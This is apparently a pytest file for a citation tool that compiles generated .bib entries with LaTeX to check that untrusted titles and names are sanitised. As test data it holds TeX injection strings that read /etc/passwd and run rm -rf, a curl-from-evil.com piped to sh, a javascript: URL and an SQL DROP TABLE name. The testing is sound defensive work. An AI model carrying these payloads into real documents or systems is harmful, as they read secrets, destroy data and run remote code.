"""The written .bib must compile: real pdflatex + bibtex (natbib/plainnat) and biber runs.

Entries are built the way the pipeline builds them (names split by citekit.core.names, titles
through protect_title, author lists through author_field), including the hard names of
the notes and a title written by an attacker. Success means zero errors and zero warnings
in the .blg, no undefined citations in the .log, and no file read that the title asked for.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from citekit.core.model import Entry, Ids, Person
from citekit.core.names import parse_name
from citekit.output.biblatex import render_biblatex
from citekit.bibtex.writer import render_entries
from citekit.bibtex.values import author_field, protect_title, sanitize

pytestmark = pytest.mark.latex

MALICIOUS_TITLE = (
    r"Owned \input{/etc/passwd} \write18{rm -rf /} \immediate\openout 100% & #1 _x_ {unbalanced"
    r" and }} \catcode`\^=7 ^^5cinput $\csname x\endcsname$ \def\x{y} ~ \\ end\ "
)

TEX_BIBTEX = r"""\documentclass{article}
\usepackage[utf8]{inputenc}
\usepackage[T1]{fontenc}
\usepackage{url}
\usepackage[numbers]{natbib}
\begin{document}
Citing \cite{%(keys)s}.
\bibliographystyle{plainnat}
\bibliography{refs}
\end{document}
"""

TEX_BIBLATEX = r"""\documentclass{article}
\usepackage[utf8]{inputenc}
\usepackage[T1]{fontenc}
\usepackage[backend=biber,style=authoryear]{biblatex}
\addbibresource{refs.bib}
\begin{document}
Citing \cite{%(keys)s}, and by an old key \cite{huang2025limuon}.
\printbibliography
\end{document}
"""


def people(*raw: str) -> str:
    return author_field([parse_name(r) for r in raw])


def realistic_entries() -> list[Entry]:
    """Entries with the names, titles and identifiers the notes actually produce."""
    return [
        Entry(
            key="compagnoni2026interaction",
            entry_type="inproceedings",
            fields={
                # Crossref-style split: the source knows the family name has two words.
                "author": author_field(
                    [Person(raw="Enea Monzio Compagnoni", given="Enea", family="Monzio Compagnoni")]
                    + [parse_name(n) for n in ("Rustem Islamov", "Antonio Orvieto", "Eduard Gorbunov")]
                ),
                "title": protect_title(
                    "On the Interaction of Batch Noise, Adaptivity, and Compression, under "
                    "$(L_0,L_1)$-Smoothness: An SDE Approach"
                ),
                "booktitle": "Forty-third International Conference on Machine Learning",
                "year": "2026",
                "month": "jul",
                "url": "https://icml.cc/virtual/2026/poster/62214",
            },
            ids=Ids(),
        ),
        Entry(
            key="vanbreugel2026synthetic",
            entry_type="article",
            fields={
                "author": people("Boris van Breugel", "Zhangyang “Atlas” Wang", "Hee-Sung Kim"),
                "title": protect_title("OLion: Approaching the Hadamard Ideal by Intersecting Spectral and $\\ell_\\infty$ Implicit Biases"),
                "journal": "Transactions on Machine Learning Research",
                "volume": "2026",
                "pages": "1–27",
                "year": "2026",
                "doi": "10.1000/tmlr_2026.x-1",
                "url": "https://openreview.net/forum?id=AbC_d-123&noteId=x%20y",
            },
        ),
        Entry(
            key="zmushko2026onestep",
            entry_type="misc",
            fields={
                "author": people("Philip Zmushko", "Egor Petrov", "Khrushchev Mikhail", "Samuel Horváth", "Peter Richtárik"),
                "title": protect_title("Lions and Muons: Optimization via Stochastic Frank–Wolfe — with INT4/MXFP4 and L-SR1"),
                "year": "2026",
                "eprint": "2602.09842",
                "archiveprefix": "arXiv",
                "primaryclass": "cs.LG",
            },
            ids=Ids(arxiv="2602.09842"),
        ),
        Entry(
            key="huang2026limuon",
            entry_type="inproceedings",
            fields={
                "author": people("Feihu Huang", "Yuning Luo", "Songcan Chen"),
                "title": protect_title("LiMuon: Light and Fast Muon Optimizer for Large Models"),
                "booktitle": "Forty-third International Conference on Machine Learning",
                "year": "2026",
            },
            aliases=["huang2025limuon"],
            tags_auto=["muon", "optimizer"],
        ),
        Entry(
            key="alimisis2026warmup",
            entry_type="misc",
            fields={
                "author": people("Foivos Alimisis", "Aurelien Lucchi"),
                # Formulas typed in Unicode, as OpenReview titles often are.
                "title": protect_title("ℓ∞-Smoothness, α-Nets and Σ-Δ Bounds: Why Warm-up Needs η ≤ 1/L₀"),
                "year": "2026",
            },
        ),
        Entry(
            key="evil2026owned",
            entry_type="misc",
            fields={
                "author": people("Robert'); DROP TABLE Students;-- Tables", "{Evil} } Corp \\input{x}"),
                "title": protect_title(MALICIOUS_TITLE),
                "howpublished": sanitize(r"\url{javascript:alert(1)} \write18{curl evil|sh} 50% off"),
                "year": "2026",
            },
        ),
    ]


def _run(cmd: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        cmd, cwd=cwd, capture_output=True, text=True, errors="replace", timeout=180, stdin=subprocess.DEVNULL
    )


def _require(*tools: str) -> None:
    missing = [t for t in tools if shutil.which(t) is None]
    if missing:
        pytest.skip(f"{', '.join(missing)} not on PATH; install texlive-latex-base, texlive-bibtex-extra, "
                    "texlive-latex-recommended and biber to run the compile checks")


def _latex(tmp: Path) -> str:
    res = _run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "main.tex"], tmp)
    log = (tmp / "main.log").read_text(encoding="utf-8", errors="replace")
    assert res.returncode == 0, log[-3000:]
    return log


def _assert_clean_log(log: str) -> None:
    assert not re.search(r"^! ", log, re.M), log[-3000:]
    assert "Undefined" not in log and "undefined" not in log, re.findall(r".*[Uu]ndefined.*", log)
    assert "(/etc/passwd" not in log  # \input was never executed
    assert "runsystem" not in log  # \write18 was never executed


def _compile_bibtex(tmp: Path, bib: str, keys: list[str]) -> tuple[str, str]:
    (tmp / "refs.bib").write_text(bib, encoding="utf-8")
    (tmp / "main.tex").write_text(TEX_BIBTEX % {"keys": ",".join(keys)}, encoding="utf-8")
    _latex(tmp)
    res = _run(["bibtex", "main"], tmp)
    blg = (tmp / "main.blg").read_text(encoding="utf-8", errors="replace")
    assert res.returncode == 0, blg
    _latex(tmp)
    log = _latex(tmp)
    return blg, log


def _compile_biber(tmp: Path, bib: str, keys: list[str]) -> tuple[str, str]:
    (tmp / "refs.bib").write_text(bib, encoding="utf-8")
    (tmp / "main.tex").write_text(TEX_BIBLATEX % {"keys": ",".join(keys)}, encoding="utf-8")
    _latex(tmp)
    res = _run(["biber", "main"], tmp)
    blg = (tmp / "main.blg").read_text(encoding="utf-8", errors="replace")
    assert res.returncode == 0, blg
    _latex(tmp)
    log = _latex(tmp)
    return blg, log


@pytest.mark.parametrize("ascii", [False, True], ids=["utf8", "ascii"])
def test_bibtex_natbib_compiles_without_errors_or_warnings(tmp_path: Path, ascii: bool) -> None:
    _require("pdflatex", "bibtex")
    entries = realistic_entries()
    bib = render_entries(entries, ascii=ascii, header="written by citekit")
    if ascii:
        assert bib.isascii()
    blg, log = _compile_bibtex(tmp_path, bib, [e.key for e in entries])

    assert "error message" not in blg, blg
    assert "Warning--" not in blg, blg  # also proves the unknown `ids` field is ignored silently
    _assert_clean_log(log)
    bbl = (tmp_path / "main.bbl").read_text(encoding="utf-8", errors="replace")
    assert bbl.count(r"\bibitem") == len(entries)
    # plainnat lower-cases titles; protected words must survive it.
    assert "{LiMuon}" in bbl and "{Muon}" in bbl and "{SDE}" in bbl
    assert "Frank--Wolfe" in bbl
    assert "$(L_0,L_1)$" in bbl  # math keeps its capitals through change.case$
    assert "Monzio~Compagnoni et~al." in bbl  # two-word family name kept whole
    assert "van Breugel et~al." in bbl


@pytest.mark.parametrize("ascii", [False, True], ids=["utf8", "ascii"])
def test_biblatex_biber_compiles_without_errors_or_warnings(tmp_path: Path, ascii: bool) -> None:
    _require("pdflatex", "biber")
    entries = realistic_entries()
    bib = render_biblatex(entries, ascii=ascii)
    blg, log = _compile_biber(tmp_path, bib, [e.key for e in entries])

    assert "ERROR" not in blg, blg
    assert "WARN" not in blg, blg
    _assert_clean_log(log)
    assert "huang2025limuon" not in re.findall(r"Citation `([^']+)' undefined", log)


def test_bibtex_run_would_fail_on_raw_untrusted_text(tmp_path: Path) -> None:
    """The checks above can fail: the same title written without sanitizing breaks the build."""
    _require("pdflatex", "bibtex")
    raw = Entry(key="raw", entry_type="misc", fields={"title": "\\input{/etc/passwd} Fast & #1 _x_ 100%", "year": "2026"})
    bib = render_entries([raw])
    (tmp_path / "refs.bib").write_text(bib, encoding="utf-8")
    (tmp_path / "main.tex").write_text(TEX_BIBTEX % {"keys": "raw"}, encoding="utf-8")
    _latex(tmp_path)
    _run(["bibtex", "main"], tmp_path)
    res = _run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "main.tex"], tmp_path)
    assert res.returncode != 0
    assert "(/etc/passwd" in (tmp_path / "main.log").read_text(encoding="utf-8", errors="replace")
